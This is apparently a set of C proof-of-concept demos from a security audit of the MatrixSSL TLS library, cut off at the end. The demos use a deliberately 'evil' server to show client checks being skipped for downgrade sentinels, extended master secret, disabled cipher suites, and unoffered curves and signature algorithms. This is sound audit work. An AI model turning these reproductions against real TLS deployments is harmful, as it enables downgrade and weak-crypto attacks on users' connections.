    printf("test: downgraded ServerHello without extension block\n");
    done = run(1, &sentinel, &alert, &ver);
    if (done && sentinel && (ver & v_tls_1_2))
    {
        printf("VIOLATION: client with TLS 1.3 enabled completed a TLS 1.2 "
               "handshake whose ServerHello.random ends in the TLS 1.3 "
               "downgrade sentinel DOWNGRD\\x01 (check skipped when "
               "ServerHello has no extensions)\n");
        return 1;
    }
    printf("OK: the client aborted the extension-less downgraded handshake "
           "as well (alert %d at server)\n", alert);
    return 0;
}
