/* demo1: a client that REQUIRES the extended master secret
   (sslSessOpts_t.extendedMasterSecret = 1) completes a TLS 1.2 handshake
   WITHOUT extended master secret when the ServerHello carries no extension
   block at all.

   The "server does not support EMS" rule (and, in builds with
   USE_REHANDSHAKING, the REQUIRE_SECURE_REHANDSHAKES rule next to it) is
   enforced at the end of parseServerHelloExtensions() (matrixssl/extDecode.c),
   and parseServerHello() (matrixssl/hsDecode.c) only calls that function
   when bytes follow the compression method.

   The peer is a legacy-style server: a MatrixSSL server session whose SNI
   application callback removes the server's own knowledge of the hello
   extensions, so that its ServerHello ends after the compression byte (what
   a pre-RFC5746 / pre-RFC7627 server sends).  The client session under test
   is untouched library code driven through the public API.

   Control run: the same server, but it only lacks EMS (it still answers the
   server_name extension): the client refuses, which shows the requirement is
   meant to be enforced. */
#include "common.h"

static sslKeys_t *g_srvKeys;
static int g_stripAll;
static int g_require = 1;

static void legacyServerSni(void *p, char *host, int32 hostLen,
        sslKeys_t **newKeys)
{
    ssl_t *srv = (ssl_t *) p;

    (void) host; (void) hostLen;
    /* This server does not implement RFC 7627 */
    srv->extFlags.extended_master_secret = 0;
    if (g_stripAll)
    {
        /* ...and does not answer any other hello extension either */
        srv->extFlags.sni_in_last_client_hello = 0;
        srv->extFlags.got_elliptic_points = 0;
# ifdef ENABLE_SECURE_REHANDSHAKES
        srv->secureRenegotiationFlag = PS_FALSE;
# endif
    }
    *newKeys = g_srvKeys;
}

static int run(int stripAll, int *clientEms, int *alertAtServer)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslKeys_t *ck;
    sslSessOpts_t co, so;
    epState_t cs, ss;
    tlsExtension_t *ext = NULL;
    unsigned char *sni = NULL;
    int32 sniLen = 0;
    psCipher16_t suite[1] = { TLS_RSA_WITH_AES_128_CBC_SHA256 };
    int rc;

    g_stripAll = stripAll;
    memset(&cs, 0, sizeof(cs)); memset(&ss, 0, sizeof(ss));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));

    g_srvKeys = loadServerKeys();
    ck = loadClientKeys();
    if (!g_srvKeys || !ck) exit(2);

    so.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0) exit(2);
    matrixSslRegisterSNICallback(srv, legacyServerSni);

    co.versionFlag = SSL_FLAGS_TLS_1_2;
    co.extendedMasterSecret = g_require; /* 1: REQUIRE extended master secret */
    matrixSslNewHelloExtension(&ext, NULL);
    matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &sni, &sniLen);
    matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
    rc = matrixSslNewClientSession(&cli, ck, NULL, suite, 1, acceptAllCerts,
            NULL, ext, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); exit(2); }

    runHandshake(cli, &cs, srv, &ss, NULL);

    *clientEms = cli->extFlags.extended_master_secret;
    *alertAtServer = ss.alertDesc;
    printf("  stripAll=%d: client complete=%d err=%d  server complete=%d "
           "alert-from-client=%d  client: require_ems=%d ems_in_use=%d "
           "version=%s suite=0x%04x\n",
           stripAll, cs.complete, cs.err, ss.complete, ss.alertDesc,
           cli->extFlags.require_extended_master_secret,
           cli->extFlags.extended_master_secret,
           verName(matrixSslGetNegotiatedVersion(cli)),
           cli->cipher ? cli->cipher->ident : 0);
    rc = cs.complete && ss.complete;
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    return rc;
}

int main(void)
{
    int ems, alert, done;

    if (matrixSslOpen() < 0) return 2;

    printf("control: server lacks EMS but answers the server_name extension\n");
    done = run(0, &ems, &alert);
    if (done || alert != SSL_ALERT_HANDSHAKE_FAILURE)
    {
        printf("control did not behave as expected (done=%d alert=%d)\n",
               done, alert);
        return 2;
    }
    printf("  -> client refused (handshake_failure): requirement enforced\n");

    printf("sanity: extension-less ServerHello, client does NOT require EMS\n");
    g_require = 0;
    done = run(1, &ems, &alert);
    g_require = 1;
    if (!done)
    {
        printf("honest extension-less handshake failed (alert=%d)\n", alert);
        return 2;
    }
    printf("  -> completes (nothing was required)\n");

    printf("test: same server, ServerHello without any extension block\n");
    done = run(1, &ems, &alert);
    if (done && ems == 0)
    {
        printf("VIOLATION: client configured with extendedMasterSecret=1 "
               "(required) completed the handshake without extended master "
               "secret; the requirement is only checked when ServerHello "
               "has an extension block\n");
        return 1;
    }
    printf("OK: the client refused the extension-less ServerHello as well "
           "(alert %d at server)\n", alert);
    return 0;
}
