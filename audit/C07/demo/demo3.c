/* demo3: a server session on which a cipher suite has been disabled with
   matrixSslSetCipherSuiteEnabledStatus() (per session, or globally with
   ssl == NULL) still completes a handshake with exactly that suite when the
   client resumes a cached session by session id.

   matrixResumeSession() (matrixssl/matrixssl.c) installs
   g_sessionTable[i].cipher into ssl->cipher directly; parseClientHello()
   (matrixssl/hsDecode.c) then only checks that the client listed the suite.
   Neither goes through sslGetCipherSpec(), which is where the global and
   per-session "disabled" status is honoured (the stateless-ticket path,
   matrixUnlockSessionTicket(), does call it).

   Both endpoints are unmodified library sessions driven through the public
   API only. */
#include "common.h"

#define SUITE TLS_RSA_WITH_AES_128_CBC_SHA

static sslKeys_t *g_sk, *g_ck;

/* mode 0: nothing disabled; 1: disabled on the server session; 2: globally */
static int handshake(sslSessionId_t *sid, int mode, const char *what,
        int *resumed, int *suiteOut)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    epState_t cs, ss;
    psCipher16_t suites[2] = { SUITE, TLS_RSA_WITH_AES_256_CBC_SHA256 };
    int rc, n = (sid != NULL && mode != 0) ? 2 : 1;

    memset(&cs, 0, sizeof(cs)); memset(&ss, 0, sizeof(ss));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    so.versionFlag = SSL_FLAGS_TLS_1_2;
    co.versionFlag = SSL_FLAGS_TLS_1_2;

    if (matrixSslNewServerSession(&srv, g_sk, NULL, &so) < 0) exit(2);
    if (mode == 1)
    {
        /* "must be called immediately after matrixSslNewServerSession" */
        rc = matrixSslSetCipherSuiteEnabledStatus(srv, SUITE, PS_FALSE);
        if (rc != PS_SUCCESS) { printf("disable failed %d\n", rc); exit(2); }
    }
    rc = matrixSslNewClientSession(&cli, g_ck, sid, suites, n, acceptAllCerts,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); exit(2); }
    if (mode == 2)
    {
        /* Client and server live in one process here and the global switch
           is process wide: flip it once the ClientHello exists, so that it
           only acts on the server side of this handshake. */
        rc = matrixSslSetCipherSuiteEnabledStatus(NULL, SUITE, PS_FALSE);
        if (rc != PS_SUCCESS) { printf("disable failed %d\n", rc); exit(2); }
    }

    runHandshake(cli, &cs, srv, &ss, NULL);

    *resumed = matrixSslIsResumedSession(srv);
    *suiteOut = (srv->cipher != NULL) ? srv->cipher->ident : 0;
    printf("  %-46s client complete=%d server complete=%d resumed=%d "
           "suite(server)=0x%04x suite(client)=0x%04x alert-at-client=%d\n",
           what, cs.complete, ss.complete, *resumed, *suiteOut,
           cli->cipher ? cli->cipher->ident : 0, cs.alertDesc);
    rc = cs.complete && ss.complete;
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    if (mode == 2)
    {
        matrixSslSetCipherSuiteEnabledStatus(NULL, SUITE, PS_TRUE);
    }
    return rc;
}

int main(void)
{
    sslSessionId_t *sid = NULL, *sid2 = NULL;
    int resumed, suite, done, bad = 0;

    if (matrixSslOpen() < 0) return 2;
    g_sk = loadServerKeys();
    g_ck = loadClientKeys();
    if (!g_sk || !g_ck) return 2;
    if (matrixSslNewSessionId(&sid, NULL) < 0) return 2;
    if (matrixSslNewSessionId(&sid2, NULL) < 0) return 2;

    done = handshake(sid, 0, "1. full handshake, suite enabled:", &resumed, &suite);
    if (!done || suite != SUITE) { printf("setup failed\n"); return 2; }
    done = handshake(sid2, 0, "1b. second full handshake (2nd cached session):",
            &resumed, &suite);
    if (!done || suite != SUITE) { printf("setup failed\n"); return 2; }
    done = handshake(sid2, 0, "1c. sanity: resumption while suite is enabled:",
            &resumed, &suite);
    if (!done || !resumed || suite != SUITE)
    {
        printf("honest resumption failed\n"); return 2;
    }

    /* Control: with the suite disabled for the session a client that has no
       cached session and offers only this suite is refused. */
    done = handshake(NULL, 1, "2. control: no session, suite disabled (sess):",
            &resumed, &suite);
    if (done) { printf("control unexpectedly completed\n"); return 2; }

    done = handshake(sid, 1, "3. cached session id, suite disabled (sess):",
            &resumed, &suite);
    if (done && suite == SUITE)
    {
        printf("VIOLATION: server session with suite 0x%04x disabled "
               "(per-session) completed a handshake using it via session-id "
               "resumption\n", SUITE);
        bad = 1;
    }
    else if (!done)
    {
        printf("fallback to a full handshake failed\n"); return 2;
    }

    done = handshake(NULL, 2, "4. control: no session, suite disabled (glob):",
            &resumed, &suite);
    if (done) { printf("control unexpectedly completed\n"); return 2; }
    done = handshake(sid2, 2, "5. cached session id, suite disabled (glob):",
            &resumed, &suite);
    if (done && suite == SUITE)
    {
        printf("VIOLATION: suite 0x%04x disabled globally on the server, yet "
               "a handshake completed using it via session-id resumption\n",
               SUITE);
        bad = 1;
    }
    else if (!done)
    {
        printf("fallback to a full handshake failed\n"); return 2;
    }
    if (!bad) printf("OK: the disabled suite was not resumed; the handshakes "
                     "fell back to a full handshake on an enabled suite\n");
    return bad;
}
