#!/bin/sh
# Builds all demos against the static libraries of the worktree.
# Run `make -j8` at the worktree top level first.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include \
 -I$TOP/core/include/sfzcl -I$TOP -O1 -g -Wall -Wno-unused-function \
 -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DKEYDIR=\"$TOP/testkeys\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for d in "$HERE"/demo[0-9]*.c; do
    o="${d%.c}"
    echo "cc $(basename "$d")"
    cc $CFLAGS -o "$o" "$d" $LIBS
done
