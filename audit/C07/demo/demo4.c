/* demo4: a TLS 1.2 client does not check the ECDHE ServerKeyExchange against
   what it offered in its ClientHello:

   (a) named curve: the client is created with
       sslSessOpts_t.ecFlags = SSL_OPT_SECP384R1|SSL_OPT_SECP521R1 and its
       supported_groups extension lists exactly these two, yet it completes a
       handshake whose ServerKeyExchange uses secp192r1.
       parseServerKeyExchange() (matrixssl/hsDecode.c) only asks
       getEccParamById() whether the curve is compiled in ("Return -1 if this
       isn't a curve we specified in client hello" says the comment); the
       session's ecInfo.ecFlags is never consulted.  (x25519 is accepted
       unconditionally a few lines above.)

   (b) signature algorithm: the client is created with
       matrixSslSessOptsSetSigAlgs({rsa_pkcs1_sha384, rsa_pkcs1_sha512}) and
       its signature_algorithms extension lists exactly these two, yet it
       accepts a ServerKeyExchange signed with rsa_pkcs1_sha256.
       tlsVerify() (matrixssl/tlsSigVer.c) takes the algorithm from the
       message and never compares it with ssl->supportedSigAlgs (the
       TLS 1.3 sibling tls13ParseCertificateVerify() and the server side
       parseCertificateVerify() do).

   The peer is a non-compliant / malicious server: a MatrixSSL server session
   whose SNI application callback overrides the server's own choice (curve)
   or its record of what the client offered (signature algorithms).  The
   client session under test is untouched library code driven through the
   public API.  What went over the wire is read from the server flight by a
   passive sniffer. */
#include "common.h"

static sslKeys_t *g_srvKeys;
static int g_mode; /* 0 honest, 1 force secp192r1, 2 ignore client sigalgs */

static int g_chGroups[16], g_chGroupsLen;
static int g_chSigAlgs[32], g_chSigAlgsLen;
static int g_skeCurve, g_skeSigAlg;

static void evilServerSni(void *p, char *host, int32 hostLen,
        sslKeys_t **newKeys)
{
    ssl_t *srv = (ssl_t *) p;

    (void) host; (void) hostLen;
    if (g_mode == 1)
    {
        srv->ecInfo.ecCurveId = IANA_SECP192R1;
    }
    if (g_mode == 2)
    {
        srv->peerSigAlg |= HASH_SIG_SHA256_RSA_MASK;
    }
    *newKeys = g_srvKeys;
}

/* Passive sniffer: ClientHello extensions and ServerKeyExchange header */
static void parseHs(int toServer, const unsigned char *m, int len)
{
    int type = m[0], p, n, extEnd, i;
    const unsigned char *b = m + 4;
    int blen = len - 4;

    if (toServer && type == 1)
    {
        p = 2 + 32; p += 1 + b[p];
        p += 2 + ((b[p] << 8) | b[p + 1]);
        p += 1 + b[p];
        if (p + 2 > blen) return;
        extEnd = p + 2 + ((b[p] << 8) | b[p + 1]); p += 2;
        while (p + 4 <= extEnd)
        {
            int et = (b[p] << 8) | b[p + 1], el = (b[p + 2] << 8) | b[p + 3];
            p += 4;
            if (et == 10)
            {
                n = (b[p] << 8) | b[p + 1];
                for (i = 0; i < n / 2 && i < 16; i++)
                    g_chGroups[i] = (b[p + 2 + 2 * i] << 8) | b[p + 3 + 2 * i];
                g_chGroupsLen = i;
            }
            if (et == 13)
            {
                n = (b[p] << 8) | b[p + 1];
                for (i = 0; i < n / 2 && i < 32; i++)
                    g_chSigAlgs[i] = (b[p + 2 + 2 * i] << 8) | b[p + 3 + 2 * i];
                g_chSigAlgsLen = i;
            }
            p += el;
        }
    }
    if (!toServer && type == 12 && b[0] == 3)
    {
        g_skeCurve = (b[1] << 8) | b[2];
        p = 4 + b[3];
        g_skeSigAlg = (b[p] << 8) | b[p + 1];
    }
}

static void sniff(int toServer, unsigned char *buf, int32 *len)
{
    static unsigned char hs[32768];
    int hsLen = 0, p = 0, q;

    while (p + 5 <= *len)
    {
        int rl = (buf[p + 3] << 8) | buf[p + 4];
        if (buf[p] != 22) break;             /* stop at CCS */
        if (p + 5 + rl > *len) break;
        memcpy(hs + hsLen, buf + p + 5, rl); hsLen += rl;
        p += 5 + rl;
    }
    for (q = 0; q + 4 <= hsLen; )
    {
        int ml = (hs[q + 1] << 16) | (hs[q + 2] << 8) | hs[q + 3];
        if (q + 4 + ml > hsLen) break;
        parseHs(toServer, hs + q, 4 + ml);
        q += 4 + ml;
    }
}

static int inList(int v, int *l, int n)
{
    int i;
    for (i = 0; i < n; i++) if (l[i] == v) return 1;
    return 0;
}

static int g_cliTls13;    /* client also enables TLS 1.3 (TLS 1.3 ClientHello) */
static int g_sigAlgsWith256; /* client's restricted list includes sha256 */

static int run(int mode, int restrictCurves, int restrictSigAlgs,
        int32 srvEcFlags, const char *what, int *alertAtClient)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslKeys_t *ck;
    sslSessOpts_t co, so;
    epState_t cs, ss;
    tlsExtension_t *ext = NULL;
    unsigned char *sni = NULL;
    int32 sniLen = 0;
    psCipher16_t suite[1] = { TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 };
    uint16_t sa[2] = { sigalg_rsa_pkcs1_sha384, sigalg_rsa_pkcs1_sha512 };
    int rc, i;

    g_mode = mode;
    g_chGroupsLen = g_chSigAlgsLen = 0; g_skeCurve = g_skeSigAlg = 0;
    memset(&cs, 0, sizeof(cs)); memset(&ss, 0, sizeof(ss));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));

    g_srvKeys = loadServerKeys();
    ck = loadClientKeys();
    if (!g_srvKeys || !ck) exit(2);

    so.versionFlag = SSL_FLAGS_TLS_1_2;
    so.ecFlags = srvEcFlags;
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0) exit(2);
    matrixSslRegisterSNICallback(srv, evilServerSni);

    co.versionFlag = SSL_FLAGS_TLS_1_2;
    if (g_cliTls13)
    {
        co.versionFlag = 0;
        if (matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_2,
                    v_tls_1_3) < 0) exit(2);
    }
    if (g_sigAlgsWith256)
    {
        sa[0] = sigalg_rsa_pkcs1_sha256;
    }
    if (restrictCurves)
    {
        co.ecFlags = SSL_OPT_SECP384R1 | SSL_OPT_SECP521R1;
    }
    if (restrictSigAlgs)
    {
        if (matrixSslSessOptsSetSigAlgs(&co, sa, 2) < 0) exit(2);
    }
    matrixSslNewHelloExtension(&ext, NULL);
    matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &sni, &sniLen);
    matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
    rc = matrixSslNewClientSession(&cli, ck, NULL, g_cliTls13 ? NULL : suite,
            g_cliTls13 ? 0 : 1, acceptAllCerts, NULL, ext, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); exit(2); }

    runHandshake(cli, &cs, srv, &ss, sniff);

    *alertAtClient = cs.alertDesc;
    printf("  %s\n    client offered groups:", what);
    for (i = 0; i < g_chGroupsLen; i++) printf(" %d", g_chGroups[i]);
    printf("  sigalgs:");
    for (i = 0; i < g_chSigAlgsLen; i++) printf(" 0x%04x", g_chSigAlgs[i]);
    printf("\n    ServerKeyExchange: curve=%d sigalg=0x%04x   client "
           "complete=%d server complete=%d alert-at-client=%d "
           "alert-at-server=%d version=%s\n",
           g_skeCurve, g_skeSigAlg, cs.complete, ss.complete, cs.alertDesc,
           ss.alertDesc, verName(matrixSslGetNegotiatedVersion(cli)));
    rc = cs.complete && ss.complete;
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    return rc;
}

int main(int argc, char **argv)
{
    int done, alert, bad = 0;
    int doA = (argc < 2 || argv[1][0] == 'a');
    int doB = (argc < 2 || argv[1][0] == 'b');

    if (matrixSslOpen() < 0) return 2;

    /* honest handshakes of the affected kind must work */
    done = run(0, 1, 0, 0,
            "sanity-1: honest server, client restricted to secp384r1/521r1", &alert);
    if (!done || !inList(g_skeCurve, g_chGroups, g_chGroupsLen))
    { printf("honest ECDHE handshake failed\n"); return 2; }
    g_cliTls13 = 1;
    done = run(0, 0, 0, 0,
            "sanity-2: client with TLS 1.3+1.2 (TLS 1.3 ClientHello), TLS 1.2 server",
            &alert);
    g_cliTls13 = 0;
    if (!done || !inList(g_skeCurve, g_chGroups, g_chGroupsLen))
    { printf("honest ECDHE handshake (TLS 1.3 ClientHello) failed\n"); return 2; }
    g_sigAlgsWith256 = 1;
    done = run(0, 0, 1, 0,
            "sanity-3: honest server, client offers rsa_pkcs1_sha256/512 only", &alert);
    g_sigAlgsWith256 = 0;
    if (!done || !inList(g_skeSigAlg, g_chSigAlgs, g_chSigAlgsLen))
    { printf("honest handshake with restricted sigalgs failed\n"); return 2; }

    if (doA)
    {
    /* (a) curve */
    done = run(0, 1, 0, SSL_OPT_SECP192R1,
            "a-control: honest server that only has secp192r1 enabled", &alert);
    if (done) { printf("control unexpectedly completed\n"); return 2; }
    printf("    -> no common curve, honest server refuses\n");

    done = run(1, 1, 0, 0,
            "a-test: server sends secp192r1 although the client did not offer it",
            &alert);
    if (done && g_skeCurve == IANA_SECP192R1 &&
        !inList(g_skeCurve, g_chGroups, g_chGroupsLen))
    {
        printf("VIOLATION: handshake completed with ECDHE group %d "
               "(secp192r1), which the client neither enabled "
               "(ecFlags=SECP384R1|SECP521R1) nor offered in "
               "supported_groups\n", g_skeCurve);
        bad = 1;
    }
    }

    if (doB)
    {
    /* (b) signature algorithm */
    done = run(0, 0, 1, 0,
            "b-control: honest server, client offers only rsa_pkcs1_sha384/512",
            &alert);
    if (done) { printf("    (control completed: honest server found an "
                       "offered algorithm)\n"); }
    else printf("    -> honest server refuses (its chain is sha256WithRSA)\n");

    done = run(2, 0, 1, 0,
            "b-test: server signs ServerKeyExchange with rsa_pkcs1_sha256 anyway",
            &alert);
    if (done && g_skeSigAlg != 0 &&
        !inList(g_skeSigAlg, g_chSigAlgs, g_chSigAlgsLen))
    {
        printf("VIOLATION: handshake completed with ServerKeyExchange "
               "signature algorithm 0x%04x, which the client neither enabled "
               "(matrixSslSessOptsSetSigAlgs) nor offered in "
               "signature_algorithms\n", g_skeSigAlg);
        bad = 1;
    }
    }
    if (!bad) printf("OK: the client rejected the curve / signature "
                     "algorithm it had not offered (parts run:%s%s)\n",
                     doA ? " a" : "", doB ? " b" : "");
    return bad;
}
