#include "../demo/common.h"
static sslKeys_t *sk, *ck;
static psProtocolVersion_t V[3] = { v_tls_1_1, v_tls_1_2, v_tls_1_3 };
int main(void)
{
    int cm, sm, i, bad = 0;
    matrixSslOpen();
    sk = loadServerKeys(); ck = loadClientKeys();
    for (cm = 1; cm < 8; cm++) for (sm = 1; sm < 8; sm++)
    {
        ssl_t *cli = NULL, *srv = NULL; sslSessOpts_t co, so; epState_t cs, ss;
        psProtocolVersion_t cv[3], sv[3]; int cn = 0, sn = 0, rc, expect = 0;
        memset(&cs,0,sizeof cs); memset(&ss,0,sizeof ss); memset(&co,0,sizeof co); memset(&so,0,sizeof so);
        for (i = 2; i >= 0; i--) { if (cm & (1<<i)) cv[cn++] = V[i]; if (sm & (1<<i)) sv[sn++] = V[i]; }
        for (i = 2; i >= 0; i--) if ((cm & sm) & (1<<i)) { expect = V[i]; break; }
        if (matrixSslSessOptsSetClientTlsVersions(&co, cv, cn) < 0) { printf("copt fail\n"); continue; }
        if (matrixSslSessOptsSetServerTlsVersions(&so, sv, sn) < 0) { printf("sopt fail\n"); continue; }
        if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0) { printf("srv new fail cm=%d sm=%d\n", cm, sm); continue; }
        rc = matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, acceptAllCerts, NULL, NULL, NULL, &co);
        if (rc != MATRIXSSL_REQUEST_SEND) { printf("cli new fail %d cm=%d sm=%d\n", rc, cm, sm); matrixSslDeleteSession(srv); continue; }
        runHandshake(cli, &cs, srv, &ss, NULL);
        {
            int done = cs.complete && ss.complete;
            psProtocolVersion_t nc = matrixSslGetNegotiatedVersion(cli) & 0xffffff, ns = matrixSslGetNegotiatedVersion(srv) & 0xffffff;
            const char *verdict = "ok";
            if (expect && !done) verdict = "FAIL-TO-CONNECT";
            if (!expect && done) verdict = "BAD-COMPLETE";
            if (done && (nc != expect || ns != expect)) verdict = "BAD-VERSION";
            if (strcmp(verdict, "ok")) bad++;
            printf("c=%d s=%d expect=%s done=%d cli=%s srv=%s alertAtCli=%d alertAtSrv=%d %s\n", cm, sm, expect?verName(expect):"-", done, verName(nc), verName(ns), cs.alertDesc, ss.alertDesc, verdict);
        }
        matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    }
    printf("bad=%d\n", bad);
    return 0;
}
