/*
 * demo5 - TLS/DTLS 1.2 with an RSA identity whose certificate is signed with
 * sha512WithRSAEncryption: chooseSigAlgInt() (matrixssl/tlsSigVer.c) follows the certificate and
 * picks rsa_pkcs1_sha512 for ServerKeyExchange / CertificateVerify whenever the peer offers it
 * (OpenSSL does by default), but privRsaEncryptSignedElement() (crypto/pubkey/rsa_priv.c) has
 * no SHA-512 DigestInfo case, so the signature cannot be produced and the handshake dies.
 */
#include "demo_common.h"

#define R512_CERT KEYDIR "/RSA/2048_RSA_SHA512.pem"
#define R512_CA   KEYDIR "/RSA/2048_RSA_SHA512_CA.pem"

int main(void)
{
    char why[600];
    int rc0, rc1, rc2, rc3;
    scen_t e0 = { .name = "control: TLS1.2 ECDHE-RSA, MatrixSSL server cert sha256WithRSA",
        .mxServer = 1, .verMin = TLS1_2_VERSION, .verMax = TLS1_2_VERSION, .mxVers = { v_tls_1_2 }, .mxVersLen = 1,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA, .oOptsSet = SSL_OP_LEGACY_SERVER_CONNECT, .oNumTickets = -1 };
    scen_t e1 = e0, e2 = e0, e3 = e0;
    e1.name = "MatrixSSL server cert sha512WithRSA (OpenSSL default sigalgs)";
    e1.srvCert = R512_CERT; e1.srvCA = R512_CA;
    e2.name = "MatrixSSL client cert sha512WithRSA, TLS1.2 client auth";
    e2.mxServer = 0; e2.clientAuth = 1; e2.cliCert = R512_CERT; e2.cliKey = RSA_KEY; e2.cliCA = R512_CA;
    e3 = e1;
    e3.name = "MatrixSSL server cert sha512WithRSA, peer offers only RSA+SHA512";
    e3.oSigalgs = "RSA+SHA512";

    if (matrixSslOpen() < 0) return 2;
    rc0 = run(&e0, why, sizeof(why));
    rc1 = run(&e1, why, sizeof(why));
    rc2 = run(&e2, why, sizeof(why));
    rc3 = run(&e3, why, sizeof(why));
    matrixSslClose();
    if (rc0 != 0) { printf("control failed: harness problem\n"); return 2; }
    if (rc1 != 0 || rc2 != 0 || rc3 != 0)
    {
        printf("VIOLATION: MatrixSSL selects rsa_pkcs1_sha512 for its TLS 1.2 signature but cannot produce it\n");
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
