/*
 * demo4 - DTLS handshake reassembly vs. a retransmission with other fragment boundaries.
 *
 * RFC 6347 4.2.3: a sender may re-fragment when it retransmits and receivers MUST handle
 * overlapping fragment ranges.  OpenSSL's first transmission of its server flight splits
 * ServerKeyExchange into [0,71) + [71,329) to fill the first datagram; its retransmission carries
 * the same message unfragmented.  MatrixSSL got only the second fragment of the first
 * transmission.  When the complete message arrives it is parsed, but because a partial reassembly
 * is pending (ssl->fragTotal > 0) the transcript is updated from the stale fragment list
 * (dtlsHsHashFragMsg) instead of from the message: ServerKeyExchange never enters the handshake
 * hash.  CertificateVerify / extended master secret / Finished are then computed over a
 * transcript the peer does not share.
 *
 * Peer: OpenSSL DTLS 1.2 server requesting a client certificate; record #3 of its flight (first
 * fragment of ServerKeyExchange) is dropped once.
 */
#include "demo_common.h"

int main(void)
{
    char why[600], why2[600];
    int rcControl, rcBug, rcBug2;
    scen_t control = { .name = "control: DTLS 1.2 with client auth, nothing lost",
        .mxServer = 0, .dtls = 1, .verMin = DTLS1_2_VERSION, .verMax = DTLS1_2_VERSION,
        .mxVersionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .clientAuth = 1, .cliCert = RSA3_CERT, .cliKey = RSA3_KEY, .cliCA = RSA3_CA,
        .oNumTickets = -1 };
    scen_t bug = control, bug2;
    bug.name = "first ServerKeyExchange fragment lost once (client auth)";
    bug.dropO = 3;
    bug2 = bug;
    bug2.name = "same without client auth and without extended master secret";
    bug2.clientAuth = 0;
    bug2.noEms = 3;

    if (matrixSslOpen() < 0) return 2;
    printf("MatrixSSL client <-> OpenSSL %s server over DTLS 1.2; OpenSSL retransmits its flight with\n"
           "ServerKeyExchange in one piece after the first of its two fragments was lost:\n",
           OpenSSL_version(OPENSSL_VERSION_STRING));
    rcControl = run(&control, why, sizeof(why));
    rcBug = run(&bug, why, sizeof(why));
    rcBug2 = run(&bug2, why2, sizeof(why2));
    matrixSslClose();
    if (rcControl != 0)
    {
        printf("control failed: harness problem\n");
        return 2;
    }
    if (rcBug != 0 || rcBug2 != 0)
    {
        printf("VIOLATION: after a re-fragmented retransmission MatrixSSL's handshake transcript differs from the "
               "peer's: OpenSSL rejects MatrixSSL's CertificateVerify (%s); without client auth (and without EMS, "
               "so that the record keys still agree) it rejects MatrixSSL's Finished (%s)\n", why, why2);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
