/*
 * explore_extra.c - further interop failures seen during the sweep, beyond the four findings
 * with their own demo.  Each line is "scenario : completed/FAILED"; the control above each
 * failing line differs in one parameter only.
 */
#include "demo_common.h"

#define PSS_CERT KEYDIR "/RSA/2048_RSA_PSS.pem"
#define PSS_KEY  KEYDIR "/RSA/2048_RSA_PSS_KEY.pem"
#define PSS_CA   KEYDIR "/RSA/2048_RSA_PSS_CA.pem"
#define R512_CERT KEYDIR "/RSA/2048_RSA_SHA512.pem"
#define R512_CA   KEYDIR "/RSA/2048_RSA_SHA512_CA.pem"

int main(void)
{
    char why[600];
    int n = 0;
    /* E: TLS 1.2 signatures with an RSA key whose certificate is signed with sha512WithRSAEncryption:
       chooseSigAlgInt() picks RSA-SHA512, privRsaEncryptSignedElement() cannot build that DigestInfo */
    scen_t e0 = { .name = "E control: TLS1.2 ECDHE-RSA, MatrixSSL server cert sha256WithRSA",
        .mxServer = 1, .verMin = TLS1_2_VERSION, .verMax = TLS1_2_VERSION, .mxVers = { v_tls_1_2 }, .mxVersLen = 1,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA, .oOptsSet = SSL_OP_LEGACY_SERVER_CONNECT, .oNumTickets = -1 };
    scen_t e1 = e0, e2;
    /* F: TLS 1.3 client certificate that is signed with RSASSA-PSS */
    scen_t f0 = { .name = "F control: TLS1.3 client auth, MatrixSSL client cert sha256WithRSA",
        .mxServer = 0, .verMin = TLS1_3_VERSION, .verMax = TLS1_3_VERSION, .mxVers = { v_tls_1_3 }, .mxVersLen = 1,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .clientAuth = 1, .cliCert = RSA3_CERT, .cliKey = RSA3_KEY, .cliCA = RSA3_CA, .oNumTickets = -1 };
    scen_t f1 = f0, f2;
    /* G: TLS 1.3 KeyUpdate */
    scen_t g0 = { .name = "G control: TLS1.3 data exchange",
        .mxServer = 0, .verMin = TLS1_3_VERSION, .verMax = TLS1_3_VERSION, .mxVers = { v_tls_1_3 }, .mxVersLen = 1,
